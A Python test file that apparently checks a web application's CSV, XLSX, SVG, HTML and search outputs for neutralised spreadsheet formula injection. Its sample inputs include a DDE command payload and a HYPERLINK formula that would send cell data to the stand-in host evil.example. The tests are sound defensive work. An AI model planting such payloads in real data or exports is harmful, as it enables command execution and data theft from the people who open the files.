"""Hostile text that is valid text: a participant named like a spreadsheet formula and an item
title that is a HYPERLINK formula are stored as typed, and are harmless in every export (CSV,
XLSX, SVG, HTML) and page — OWASP CSV injection, issue 14."""

from __future__ import annotations

import csv
import html
import io
import xml.etree.ElementTree as ET
from typing import Any

from openpyxl import load_workbook

from tests.api.conftest import Api

CMD = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/x?"&A1,"点击领取补贴")'
EVENT = {
    "name": "+对接会",
    "date": "2026-12-01",
    "sessions": [{"name": "上午场", "start": "09:00", "end": "10:00", "slot_minutes": 20}],
    "table_labels": ["@A1", "A2"],
}


def _cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formulas(data: bytes) -> list[str]:
    """Every text cell of a workbook; fails if any cell is a formula or starts like one."""
    texts = []
    for cell in _cells(data):
        if cell.value is None:
            continue
        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@")), cell.value
            texts.append(cell.value)
    return texts


def _hostile_world(api: Api) -> dict[str, Any]:
    admin = api.as_("admin")
    for path, body in (
        (f"/api/v1/organisations/{api.ids['uni']}", {"name": CMD}),
        (f"/api/v1/parks/{api.ids['park']}", {"name": LINK}),
        (f"/api/v1/needs/{api.ids['own_need']}", {"title": LINK}),
    ):
        changed = api.client.patch(path, json=body, headers=admin)
        assert changed.status_code == 200, changed.text
    event = api.client.post("/api/v1/events", json=EVENT, headers=admin)
    assert event.status_code == 201, event.text
    event_id = event.json()["id"]
    for key in ("ent", "other", "uni"):
        added = api.client.post(
            f"/api/v1/events/{event_id}/participants",
            json={"organisation_id": api.ids[key], "max_meetings": 3},
            headers=admin,
        )
        assert added.status_code == 201, added.text
    planned = api.client.post(
        f"/api/v1/events/{event_id}/plan", json={"time_limit": 2}, headers=admin
    )
    assert planned.status_code == 201 and planned.json()["meetings"] >= 1, planned.text
    return {"event": event_id}


def test_event_exports_neutralise_formula_names(api: Api) -> None:
    world = _hostile_world(api)
    base = f"/api/v1/events/{world['event']}/export"
    reader = api.as_("admin")  # event data is confidential to its organisers (issue 19)

    exported = api.client.get(f"{base}/csv", headers=reader)
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    names = {cell for row in rows[1:] for cell in row[3:5]}
    assert "'" + CMD in names, names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    workbook = api.client.get(f"{base}/xlsx", headers=reader)
    assert workbook.status_code == 200
    texts = _no_formulas(workbook.content)
    assert "'" + CMD in texts
    assert "'@A1 号桌" in texts, "table labels are text too"

    agenda = api.client.get(f"{base}/html", headers=reader)
    assert agenda.status_code == 200 and CMD.replace("'", "&#39;") in agenda.text


def test_map_and_report_exports_neutralise_a_formula_park_name(api: Api) -> None:
    _hostile_world(api)
    reader, park = api.as_("reader"), api.ids["park"]
    workbook = api.client.get(f"/api/v1/parks/{park}/map.xlsx", headers=reader)
    assert workbook.status_code == 200, workbook.text
    assert "'" + LINK in _no_formulas(workbook.content)
    report = api.client.get(f"/api/v1/stats/parks/{park}/report.xlsx", headers=reader)
    assert report.status_code == 200, report.text
    assert "'" + LINK in _no_formulas(report.content)
    svg = api.client.get(f"/api/v1/parks/{park}/map.svg", headers=reader)
    assert svg.status_code == 200
    title = ET.fromstring(svg.content).find("{http://www.w3.org/2000/svg}title")
    assert title is not None and LINK in (title.text or "")


def test_pages_and_search_show_a_formula_title_as_text(api: Api) -> None:
    _hostile_world(api)
    page = api.client.get(f"/items/need/{api.ids['own_need']}")
    assert page.status_code == 200
    assert '<a href="http://evil.example' not in page.text
    assert "=HYPERLINK(&#34;http://evil.example/x?&#34;&amp;A1" in page.text
    found = api.client.get(
        "/api/v1/search", params={"q": "点击领取补贴", "kind": "need"}, headers=api.as_("admin")
    )
    assert found.status_code == 200
    hit = next(h for h in found.json()["items"] if h["id"] == api.ids["own_need"])
    assert hit["title"] == LINK
    shown = hit["title_highlight"].replace("<mark>", "").replace("</mark>", "")
    assert shown == html.escape(LINK), "the highlight is HTML-escaped"
